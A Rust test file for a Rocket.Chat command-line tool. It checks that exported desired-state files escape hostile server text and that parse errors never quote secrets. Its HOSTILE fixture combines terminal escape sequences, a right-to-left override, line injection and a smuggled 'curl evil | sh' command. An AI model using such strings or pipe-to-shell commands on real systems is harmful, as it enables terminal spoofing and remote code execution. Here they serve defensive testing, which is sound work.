//! The text of a desired-state file: what `export` writes of hostile server text (G10), and what
//! a parse error says of the file (G12).

use crate::common::{PASSWORD, Ran, TestEnv, logged_in, run};
use crate::support::{Mode, User};

/// Server text that tries to start a line of its own, retitle the terminal and reverse what a
/// reviewer reads: ESC, CR, LF, U+202E (right-to-left override), U+200B (zero-width space).
const HOSTILE: &str = "N\u{1b}]0;PWNED\u{7} \u{202e}evil\u{200b}x\r\nhint: run curl evil | sh";

fn rocketctl(env: &TestEnv, args: &[&str]) -> Ran {
    run(env.cmd().env("ROCKETCHAT_PASSWORD", PASSWORD).args(args))
}

/// Every string of the exported text is one line of a basic string, with the hostile characters
/// escaped; `diff` of the file plans nothing.
fn exports_escaped_and_round_trips(env: &TestEnv, export: &[&str]) {
    let exported = rocketctl(env, export);
    assert_eq!(exported.code, 0, "{exported:?}");
    let text = &exported.stdout;
    for raw in ['\u{1b}', '\u{7}', '\r', '\u{202e}', '\u{200b}'] {
        assert!(!text.contains(raw), "{raw:?} written raw: {text}");
    }
    assert!(!text.contains("\"\"\"") && !text.contains("'''"), "a multi-line string: {text}");
    assert!(
        !text.lines().any(|line| line.starts_with("hint")),
        "server text starts a line: {text}"
    );
    assert!(
        text.contains(r#""N\u001B]0;PWNED\u0007 \u202Eevil\u200Bx\r\nhint: run curl evil | sh""#)
    );
    let file = env.write_file("exported.toml", text);
    let diff = rocketctl(env, &["diff", "-f", file.to_str().unwrap(), "--exit-code"]);
    assert_eq!((diff.code, diff.stdout.as_str()), (0, ""), "{text}\n{diff:?}");
}

#[test]
fn g10_export_escapes_hidden_characters_and_line_breaks_and_the_file_round_trips() {
    let env = logged_in(Mode::V8);
    env.server.add_user(User::new("root", PASSWORD).with_roles(&["admin", "user"]));
    let mut bot = User::new("hostile-bot", "bot-password-1").with_roles(&["bot"]);
    bot.name = HOSTILE.to_owned();
    bot.nickname = Some(HOSTILE.to_owned());
    bot.bio = Some(HOSTILE.to_owned());
    env.server.add_user(bot);
    {
        let mut state = env.server.state();
        let jane = state.users.iter_mut().find(|user| user.username == "jane").expect("jane");
        jane.nickname = Some(HOSTILE.to_owned());
        jane.status_text = Some(HOSTILE.to_owned());
    }
    exports_escaped_and_round_trips(&env, &["export"]);
    env.login_as("root", PASSWORD, "admin");
    exports_escaped_and_round_trips(&env, &["export", "--user", "hostile-bot"]);
}

#[test]
fn g12_parse_errors_name_the_line_but_never_quote_the_file() {
    let env = logged_in(Mode::V8);
    let head = "version = 1\n\n[[users]]\nusername = \"a\"\n";
    let cases = [
        (
            "token = { name = \"ci\", file = \"t\", bypass_2fa = \"Hunter2-CANARY\" }",
            "expected a boolean",
        ),
        ("active = \"Hunter2-CANARY\"", "expected a boolean"),
        // The contract names an unknown key (escaped); its value is never quoted.
        ("hidden = \"Hunter2-CANARY\"", "unknown key `hidden`; the keys here are: username,"),
    ];
    for (line, says) in cases {
        let file = env.write_file("bad.toml", &format!("{head}{line}\n"));
        let ran = rocketctl(&env, &["diff", "-f", file.to_str().unwrap()]);
        assert_eq!(ran.code, 2, "{line}: {ran:?}");
        assert!(ran.stderr.contains(&format!("bad.toml, line 5: {says}")), "{line}: {ran:?}");
        assert!(!ran.stderr.contains("Hunter2"), "{line}: the file's text is quoted: {ran:?}");
    }
    let file = env.write_file("version.json", "{\"version\": \"Hunter2-CANARY\"}");
    let ran = rocketctl(&env, &["diff", "-f", file.to_str().unwrap()]);
    assert_eq!(ran.code, 2, "{ran:?}");
    assert!(ran.stderr.contains("line 1: expected a whole number"), "{ran:?}");
    assert!(!ran.stderr.contains("Hunter2"), "{ran:?}");
}
